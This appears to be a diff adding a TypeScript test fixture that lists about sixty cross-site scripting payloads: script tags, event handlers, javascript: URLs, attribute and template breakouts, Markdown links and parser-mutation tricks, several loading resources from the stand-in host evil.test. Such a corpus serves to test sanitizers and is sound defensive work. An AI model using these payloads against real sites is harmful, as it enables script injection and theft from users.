@@ -1,0 +1,73 @@
+/**
+ * Texts that ran, loaded or asked for something in one interface or another: as markup, in an attribute, out of one, as
+ * an address, in Markdown, in a template, and by what a parser makes of them. What runs calls `hurt`; what loads asks
+ * for `hurt.png` or for a host of its own.
+ */
+export const hostileTexts: readonly string[] = [
+  // scripts
+  "<script>hurt(1)</script>",
+  "<ScRiPt>hurt(2)</sCrIpT>",
+  "<script src=//evil.test/hurt.js></script>",
+  "<script/x>hurt(4)</script>",
+  "<scr<script>ipt>hurt(5)</scr</script>ipt>",
+  "<script>hurt(6)<!--</script>",
+  "</title><script>hurt(7)</script>",
+  "</textarea><script>hurt(8)</script>",
+  "</script><script>hurt(9)</script>",
+  "<!--><script>hurt(10)</script>-->",
+  // handlers
+  "<img src=/hurt.png onerror=hurt(11)>",
+  "<img src=x:x onerror='hurt(12)'>",
+  '<img src=/hurt.png onerror="&#104;urt(13)">',
+  "<image href=/hurt.png onerror=hurt(14)>",
+  "<svg onload=hurt(15)>",
+  "<svg/onload=hurt(16)//",
+  "<svg><script>hurt(17)</script></svg>",
+  "<svg><animate onbegin=hurt(18) attributeName=x>",
+  "<svg><a xlink:href=javascript:hurt(19)><text>x</text></a>",
+  "<math><mtext></mtext><img src=/hurt.png onerror=hurt(20)>",
+  "<body onload=hurt(21)>",
+  "<details open ontoggle=hurt(22)>x</details>",
+  "<video><source onerror=hurt(23)></video>",
+  "<audio src=/hurt.png onerror=hurt(24)>",
+  "<input autofocus onfocus=hurt(25)>",
+  "<select autofocus onfocus=hurt(26)>",
+  "<marquee onstart=hurt(27)>x</marquee>",
+  "<div onmouseover=hurt(28)>x</div>",
+  "<a href=javascript:hurt(29)>x</a>",
+  "<a href=' java&Tab;script:hurt(30)'>x</a>",
+  // other pages in ours
+  "<iframe src=javascript:hurt(31)></iframe>",
+  "<iframe srcdoc='<script>parent.hurt(32)</script>'></iframe>",
+  "<object data=javascript:hurt(33)></object>",
+  "<embed src=//evil.test/hurt.swf>",
+  "<base href=//evil.test/>",
+  "<meta http-equiv=refresh content='0;url=//evil.test/'>",
+  "<link rel=stylesheet href=//evil.test/hurt.css>",
+  "<style>@import '//evil.test/hurt.css';</style>",
+  "<style>*{background:url(/hurt.png)}</style>",
+  "<form action=//evil.test/><button>x</button></form>",
+  // out of an attribute, or a text of a script
+  '" onmouseover=hurt(41) x="',
+  "' onfocus='hurt(42)' autofocus='",
+  '"><img src=/hurt.png onerror=hurt(43)>',
+  "'><svg onload=hurt(44)>",
+  "`onmouseover=hurt(45)`",
+  "';hurt(46);//",
+  '"-hurt(47)-"',
+  "${hurt(48)}",
+  "{{constructor.constructor('hurt(49)')()}}",
+  "<%= hurt(50) %>",
+  // Markdown
+  "[x](javascript:hurt(51))",
+  "![x](//evil.test/hurt.png)",
+  "![x](/hurt.png)",
+  "<javascript:hurt(54)>",
+  "[x]: //evil.test/hurt 'x'",
+  // by what a parser makes of them
+  "&lt;script&gt;hurt(56)&lt;/script&gt;",
+  "%3Cscript%3Ehurt(57)%3C/script%3E",
+  "\\u003cscript\\u003ehurt(58)\\u003c/script\\u003e",
+  "<noscript><p title='</noscript><img src=/hurt.png onerror=hurt(59)>'>",
+  "<math><style><img src=/hurt.png onerror=hurt(60)></style></math>",
+];
